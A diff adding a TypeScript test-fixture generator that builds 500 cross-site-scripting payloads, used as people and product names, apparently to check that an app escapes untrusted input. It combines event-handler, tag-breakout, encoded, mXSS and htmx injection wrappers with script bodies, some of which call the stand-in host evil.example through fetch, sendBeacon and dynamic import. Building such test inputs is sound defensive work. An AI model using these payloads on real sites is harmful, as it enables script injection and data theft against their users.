@@ -1,0 +1,63 @@
+/** Five hundred texts that try to run a script or to ask another host for something, as names of people and products. */
+export function hostileTexts(): readonly string[] {
+  return SCRIPTS.flatMap((script) => WAYS.map((way) => way(script))).slice(0, 500)
+}
+
+/** What would tell that one worked: a mark in the page, a question, or a request that leaves. */
+const SCRIPTS = [
+  'window.hit=1',
+  'alert(1)',
+  'document.title="hit"',
+  'fetch("https://evil.example/a")',
+  'new Image().src="//evil.example/b"',
+  'location="https://evil.example/c"',
+  'top.hit=1',
+  'import("https://evil.example/d.js")',
+  'navigator.sendBeacon("https://evil.example/e")',
+  'eval("window.hit=1")',
+  'setTimeout("window.hit=1")',
+  'document.write("<b id=hit>")',
+  'document.body.innerHTML=""',
+]
+
+const WAYS: readonly ((script: string) => string)[] = [
+  (js) => `<script>${js}</script>`,
+  (js) => `</title><script>${js}</script>`,
+  (js) => `</textarea><script>${js}</script>`,
+  (js) => `--><script>${js}</script>`,
+  (js) => `]]><script>${js}</script>`,
+  (js) => `<ScRiPt >${js}</sCrIpT >`,
+  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
+  (js) => `<img src=x onerror='${js}'>`,
+  (js) => `<img src=//evil.example/i onload='${js}'>`,
+  (js) => `<svg onload='${js}'>`,
+  (js) => `<svg><script>${js}</script></svg>`,
+  (js) => `<svg><animate onbegin='${js}' attributeName=x dur=1s>`,
+  (js) => `<body onload='${js}'>`,
+  (js) => `<iframe srcdoc="<script>${js}</script>">`,
+  (js) => `<iframe src='javascript:${js}'>`,
+  (js) => `<a href='javascript:${js}'>x</a>`,
+  (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror='${js}'>`,
+  (js) => `<details open ontoggle='${js}'>`,
+  (js) => `<input autofocus onfocus='${js}'>`,
+  (js) => `<video><source onerror='${js}'></video>`,
+  (js) => `<style>@import '//evil.example/s'</style>${js}`,
+  (js) => `<link rel=stylesheet href=//evil.example/l>${js}`,
+  (js) => `<meta http-equiv=refresh content='0;url=//evil.example/m'>${js}`,
+  (js) => `<base href=//evil.example/>${js}`,
+  (js) => `<object data=//evil.example/o>${js}</object>`,
+  (js) => `<form action=//evil.example/f><button>${js}`,
+  (js) => `" onmouseover='${js}' x="`,
+  (js) => `' onfocus='${js}' autofocus x='`,
+  (js) => `"><img src=x onerror='${js}'>`,
+  (js) => `'><svg/onload='${js}'>`,
+  (js) => `\`onmouseover=${js}\``,
+  (js) => `javascript:${js}`,
+  (js) => `data:text/html,<script>${js}</script>`,
+  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
+  (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
+  (js) => `\u003cscript\u003e${js}`,
+  (js) => `<div hx-get=//evil.example/h hx-trigger=load>${js}</div>`,
+  (js) => `<div hx-on:click='${js}' hx-trigger=load>x</div>`,
+  (js) => `{{${js}}}<%= ${js} %>\${${js}}`,
+]
